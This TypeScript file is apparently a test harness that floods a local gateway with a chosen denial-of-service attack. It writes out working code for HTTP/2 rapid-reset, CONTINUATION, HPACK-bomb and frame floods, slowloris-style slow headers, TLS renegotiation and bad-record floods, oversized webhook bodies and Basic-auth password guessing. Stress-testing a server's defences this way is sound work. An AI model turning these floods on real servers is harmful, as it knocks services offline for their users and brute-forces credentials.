// A stranger who floods a client's gateway in one way until it is ended. Started as a process of its own: KIND PORT NAME
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import net from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import tls, { type TLSSocket } from "node:tls";

const [kind = "", port = "", name = ""] = process.argv.slice(2);

type Attack = () => Promise<unknown>;

const floods: Readonly<Record<string, Attack>> = {
  "h2-unread": () => inParallel(60, () => unreadStreams("/5000000")),
  "h2-unread-short": () => inParallel(60, () => unreadStreams("/60000")),
  "h1-unread": () => inParallel(500, unreadDownload),
  "bytes-unread": () => inParallel(500, unreadDownload),
  "slow-heads": () => inParallel(500, slowHead),
  "bad-records": () => inParallel(200, badRecord),
  renegotiation: () => inParallel(4, renegotiate),
  webhooks: () => inParallel(8, halfWebhook),
  guesses: () => inParallel(4, guess),
  "rapid-reset": () => frames(8, (id) => [request(id), frame(3, 0, id, uint32(8))]),
  "made-you-reset": () => frames(8, (id) => [request(id), frame(8, 0, id, uint32(0))]),
  continuation: () => frames(8, (id) => (id === 1 ? [request(1, 0x1)] : [frame(9, 0, 1, Buffer.alloc(100, 0x82))])),
  "empty-continuation": () => frames(8, (id) => (id === 1 ? [request(1, 0x1)] : [frame(9, 0, 1)])),
  settings: () => frames(8, () => [frame(4, 0, 0)]),
  ping: () => frames(8, () => [frame(6, 0, 0, Buffer.alloc(8))]),
  priority: () => frames(8, (id) => [frame(2, 0, id, Buffer.concat([uint32(0), Buffer.of(1)]))]),
  "window-update": () => frames(8, () => [frame(8, 0, 0, uint32(1))]),
  "empty-data": () => frames(8, (id) => (id === 1 ? [request(1, 0x4, "POST")] : [frame(0, 0, 1)])),
  "padded-data": () =>
    frames(8, (id) =>
      id === 1 ? [request(1, 0x4, "POST")] : [frame(0, 0x8, 1, Buffer.of(255, ...Buffer.alloc(255)))],
    ),
  "hpack-bomb": () => frames(8, hpackBomb),
  "unknown-frames": () => frames(8, () => [frame(0xbb, 0, 0, Buffer.alloc(64))]),
};

/** Attacks over and over; an attacker that is turned away tries again soon. */
async function inParallel(count: number, attack: Attack): Promise<void> {
  await Promise.all(
    Array.from({ length: count }, async () => {
      for (;;) {
        await attack().catch(() => {});
        await pause(Math.random() * 100);
      }
    }),
  );
}

async function connect(options: tls.ConnectionOptions = {}): Promise<TLSSocket> {
  const target = { host: "127.0.0.1", port: Number(port), servername: name, rejectUnauthorized: false };
  const socket = tls.connect({ ...target, ...options });
  socket.on("error", () => {});
  await once(socket, "secureConnect");
  return socket;
}

function ended(socket: TLSSocket): Promise<unknown> {
  return socket.closed ? Promise.resolve() : new Promise((resolve) => socket.once("close", resolve));
}

async function unreadDownload(): Promise<void> {
  const socket = await connect();
  socket.write(`GET /1000000000 HTTP/1.1\r\nHost: ${name}\r\n\r\n`);
  await ended(socket);
}

async function unreadStreams(path: string): Promise<void> {
  const socket = await begin([Buffer.concat([Buffer.of(0, 4), uint32(0)])]);
  for (let id = 1; id < 200; id += 2) socket.write(request(id, 0x5, "GET", path));
  await ended(socket);
}

async function slowHead(): Promise<void> {
  const socket = await connect();
  socket.resume().write(`GET / HTTP/1.1\r\nHost: ${name}\r\n`);
  while (socket.writable) {
    socket.write("X: y\r\n");
    await pause(1_000);
  }
}

/** A record that no key has made, after the handshake. */
async function badRecord(): Promise<void> {
  const below = net.connect({ host: "127.0.0.1", port: Number(port) });
  below.on("error", () => {});
  const socket = await connect({ socket: below });
  below.write(Buffer.concat([Buffer.of(23, 3, 3, 0, 64), randomBytes(64)]));
  socket.resume();
  await ended(socket);
}

async function renegotiate(): Promise<void> {
  const socket = await connect({ maxVersion: "TLSv1.2" });
  while (socket.writable) await new Promise((resolve) => socket.renegotiate({}, resolve));
}

async function halfWebhook(): Promise<void> {
  const socket = await connect();
  const head = [`POST /hook HTTP/1.1`, `Host: ${name}`, "Content-Length: 22000000"];
  socket.resume().write(`${[...head, `X-Hub-Signature-256: sha256=${"00".repeat(32)}`].join("\r\n")}\r\n\r\n`);
  socket.write(Buffer.alloc(21_000_000));
  await ended(socket);
}

async function guess(): Promise<void> {
  const socket = await connect();
  let tries = 0;
  const next = (): void => {
    const password = Buffer.from(`ada:${(tries += 1)}`).toString("base64");
    socket.write(`GET / HTTP/1.1\r\nHost: ${name}\r\nAuthorization: Basic ${password}\r\n\r\n`);
  };
  socket.on("data", next);
  next();
  await ended(socket);
}

/** Frames as fast as they are taken, on connections that are opened again when they are ended. */
function frames(connections: number, make: (streamId: number) => readonly Buffer[]): Promise<void> {
  return inParallel(connections, async () => {
    const socket = await begin([]);
    const closed = ended(socket);
    socket.resume();
    for (let id = 1; socket.writable;) {
      const batch: Buffer[] = [];
      for (let count = 0; count < 500; count++, id += 2) batch.push(...make(id));
      if (!socket.write(Buffer.concat(batch))) await Promise.race([once(socket, "drain"), closed]);
      else await pause(0);
    }
  });
}

async function begin(settings: readonly Buffer[]): Promise<TLSSocket> {
  const socket = await connect({ ALPNProtocols: ["h2"] });
  socket.write(
    Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, Buffer.concat(settings))]),
  );
  return socket;
}

function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** HEADERS without compression. Flags: 1 ends the stream, 4 ends the head. */
function request(streamId: number, flags = 0x5, method = "GET", path = "/"): Buffer {
  const literal = (index: number, value: string): Buffer =>
    Buffer.concat([Buffer.of(index, value.length), Buffer.from(value)]);
  const fields = [Buffer.of(method === "GET" ? 0x82 : 0x83, 0x87), literal(4, path), literal(1, name)];
  return frame(1, flags, streamId, Buffer.concat(fields));
}

/** A field of 3,900 bytes goes into the table, and then each byte of a head names it again. */
function hpackBomb(streamId: number): readonly Buffer[] {
  const begin = request(streamId, 0x1);
  if (streamId === 1) {
    const value = Buffer.alloc(3_900, 0x61);
    const length = Buffer.of(0x7f, ((value.length - 127) & 0x7f) | 0x80, (value.length - 127) >> 7);
    return [begin, frame(9, 4, 1, Buffer.concat([Buffer.of(0x40, 1, 0x78), length, value]))];
  }
  return [begin, frame(9, 4, streamId, Buffer.alloc(4_000, 0xbe))];
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

const flood = floods[kind];
if (!flood) throw new Error(`There is no flood of ${kind}`);
// Who is kept out waits on timers that keep no process alive.
setInterval(() => {}, 60_000);
process.stdout.write("flooding\n");
await flood();
